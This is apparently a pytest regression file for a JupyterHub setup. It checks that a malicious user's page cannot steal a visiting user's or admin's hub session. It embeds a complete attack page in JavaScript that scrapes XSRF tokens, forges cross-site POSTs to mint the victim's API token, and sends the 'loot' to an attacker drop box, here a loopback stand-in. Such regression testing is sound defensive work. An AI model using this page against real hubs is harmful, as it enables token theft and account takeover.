"""Regression test of issue 10: one user's page must never act with a visitor's hub session.

The attack, replayed in Chromium: an approved user (the attacker) makes her own
server serve an HTML page (here through ``c.ServerApp.extra_static_paths`` in her
``~/.jupyter``: any code in her server could serve the same page). The page

1. fetches ``/hub/home`` (on its own origin and on the hub's) and looks for the
   hub's XSRF token in it and in ``document.cookie``;
2. POSTs ``/hub/api/users/<visitor>/tokens`` (on both origins) with whatever it
   found, to mint an API token of the visitor;
3. sends everything it got back to the attacker's drop box (a loopback HTTP server
   of this test, standing in for any server on the internet).

A user and an admin, logged in to the hub, open the link. With per-user origins
(``JupyterHub.subdomain_host``, the default) no token is created and the drop box
receives no token and no XSRF value. Without them (``ENERTEF_E2E_SHARED_ORIGIN=1``,
the code before issue 10) both victims lose an API token: this test fails.
"""

from __future__ import annotations

import http.server
import json
import threading
import time
from pathlib import Path

import pytest
from tests.harness.browser import log_in, wait_past_spawn_page
from tests.harness.forms import form_session, signup_and_approve
from tests.harness.hub import start_server
from tests.harness.names import unique_name

# Also run in the hub image's environment (JupyterHub 5.5), which production runs.
pytestmark = pytest.mark.jupyterhub_login

PASSWORD = "Attack-e2e-passw0rd!"
TOKEN_NOTE = "enertef-e2e-attack"

#: The attacker's page. HUB and DROP are filled in by the test; the victim's name
#: comes in the query string (the attacker targets someone she knows).
ATTACK_PAGE = """<!doctype html>
<html><head><title>Nice results</title></head><body><p>Loading the results...</p>
<script>
const HUB = "@HUB@", DROP = "@DROP@", NOTE = "@NOTE@";
const victim = new URLSearchParams(location.search).get("victim");
const loot = {victim: victim, origin: location.origin, cookies: document.cookie, steps: []};

function findXsrf(text) {
  const patterns = [/xsrf_token:\\s*"([^"]+)"/, /name="_xsrf" value="([^"]+)"/];
  for (const pattern of patterns) {
    const m = text.match(pattern);
    if (m) return m[1];
  }
  return null;
}

async function tryOrigin(base) {
  const step = {base: base};
  let xsrf = null;
  try {
    const home = await fetch(base + "/hub/home", {credentials: "include"});
    const text = await home.text();
    step.home = {status: home.status, url: home.url, length: text.length};
    xsrf = findXsrf(text);
  } catch (error) {
    step.home = {error: String(error)};
  }
  const cookie = document.cookie.match(/(?:^|; )_xsrf=([^;]+)/);
  xsrf = xsrf || (cookie && cookie[1]);
  step.xsrf = xsrf;
  try {
    const headers = {"Content-Type": "application/json"};
    if (xsrf) headers["X-XSRFToken"] = xsrf;
    const url = base + "/hub/api/users/" + victim + "/tokens" + (xsrf ? "?_xsrf=" + encodeURIComponent(xsrf) : "");
    const minted = await fetch(url, {
      method: "POST", credentials: "include", headers: headers,
      body: JSON.stringify({note: NOTE, expires_in: 3600}),
    });
    step.mint = {status: minted.status, body: (await minted.text()).slice(0, 2000)};
  } catch (error) {
    step.mint = {error: String(error)};
  }
  // A form post needs no CORS pre-flight: the classic cross-site request forgery.
  try {
    const form = new URLSearchParams({note: NOTE});
    if (xsrf) form.set("_xsrf", xsrf);
    const posted = await fetch(base + "/hub/api/users/" + victim + "/tokens", {
      method: "POST", credentials: "include", mode: "no-cors", body: form,
    });
    step.form = {type: posted.type, status: posted.status};
  } catch (error) {
    step.form = {error: String(error)};
  }
  loot.steps.push(step);
}

(async () => {
  for (const base of [location.origin, HUB]) await tryOrigin(base);
  await fetch(DROP, {method: "POST", mode: "no-cors", body: JSON.stringify(loot)});
  document.title = "done";
})();
</script></body></html>
"""


class DropBox:
    """The attacker's collection server: keeps every body POSTed to it."""

    def __init__(self):
        self.received: list[dict] = []
        received = self.received

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_POST(self):
                body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
                received.append(json.loads(body))
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/loot"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def wait_for(self, victim: str, timeout: float = 60) -> dict:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            for loot in self.received:
                if loot.get("victim") == victim:
                    return loot
            time.sleep(0.2)
        raise AssertionError(f"the attack page never reported for {victim}: {self.received}")


@pytest.fixture(scope="module")
def drop_box():
    box = DropBox()
    yield box
    box.server.shutdown()


@pytest.fixture(scope="module")
def attacker(hub, drop_box):
    """An approved user whose server serves the attack page; returns the page's URL."""
    name = signup_and_approve(hub, unique_name("mallory"), PASSWORD)
    home = Path(hub.dir) / "homes" / name
    (home / ".jupyter").mkdir(parents=True, exist_ok=True)
    (home / "www").mkdir(exist_ok=True)
    page = ATTACK_PAGE.replace("@HUB@", hub.url).replace("@DROP@", drop_box.url).replace("@NOTE@", TOKEN_NOTE)
    (home / "www" / "results.html").write_text(page)
    (home / ".jupyter" / "jupyter_server_config.py").write_text(
        f"c.ServerApp.extra_static_paths = [{str(home / 'www')!r}]\n"
    )
    server_url = start_server(hub, name)
    return f"{server_url.rstrip('/')}/static/results.html"


def attack_tokens(hub, victim: str) -> list[dict]:
    response = hub.api("GET", f"/users/{victim}/tokens")
    response.raise_for_status()
    return [token for token in response.json()["api_tokens"] if token.get("note") == TOKEN_NOTE]


def open_attack_link(hub, page, link: str, victim: str, drop_box: DropBox) -> dict:
    page.goto(f"{link}?victim={victim}")
    loot = drop_box.wait_for(victim)
    return loot


def assert_attacker_learned_nothing(hub, victim: str, loot: dict):
    minted = attack_tokens(hub, victim)
    assert not minted, f"the attack minted a token for {victim}: {minted}\nthe page got: {loot}"
    text = json.dumps(loot)
    assert '"token":' not in text, f"an API token reached the attacker: {loot}"
    for step in loot["steps"]:
        assert not step.get("xsrf"), f"the page read the hub's XSRF token for {victim}: {step}"
        assert step["mint"].get("status") != 201, step
    # The hub's cookies are not readable by the attacker's page.
    assert "jupyterhub" not in loot["cookies"], loot["cookies"]


def test_user_visiting_the_attackers_page_loses_nothing(hub, attacker, new_page, drop_box):
    victim = signup_and_approve(hub, unique_name("victim"), PASSWORD)
    page = new_page()
    log_in(page, hub, victim, PASSWORD, wait=True)
    wait_past_spawn_page(page)
    loot = open_attack_link(hub, page, attacker, victim, drop_box)
    assert_attacker_learned_nothing(hub, victim, loot)


def test_admin_visiting_the_attackers_page_loses_nothing(hub, attacker, new_page, drop_box):
    page = new_page()
    log_in(page, hub, hub.admin_name, hub.admin_password, wait=True)
    loot = open_attack_link(hub, page, attacker, hub.admin_name, drop_box)
    assert_attacker_learned_nothing(hub, hub.admin_name, loot)
    # The admin's session still works on the hub (the attack did not log her out either).
    page.goto(f"{hub.url}/hub/home")
    assert "/hub/login" not in page.url


def test_the_hub_login_is_never_served_on_a_users_origin(hub, attacker, page):
    # The proxy sends /hub/ of every host to the hub: logging in on the attacker's host
    # would give her pages a same-origin hub session. The login page moves to the hub's
    # host, and a login form posted to her host is refused.
    attacker_origin = attacker.split("/user/", 1)[0]
    if attacker_origin == hub.url:
        pytest.skip("shared origin (ENERTEF_E2E_SHARED_ORIGIN): no user host to check")
    page.goto(f"{attacker_origin}/hub/login?next=/hub/home")
    assert page.url.startswith(f"{hub.url}/hub/login"), page.url
    session, xsrf = form_session(hub, "/hub/login")
    posted = session.post(
        f"{attacker_origin}/hub/login",
        data={"_xsrf": xsrf, "username": hub.admin_name, "password": hub.admin_password},
        allow_redirects=False,
        timeout=30,
    )
    assert posted.status_code == 403, posted.status_code
    assert not [c for c in session.cookies if "login" in c.name and "localhost.local" not in c.domain]
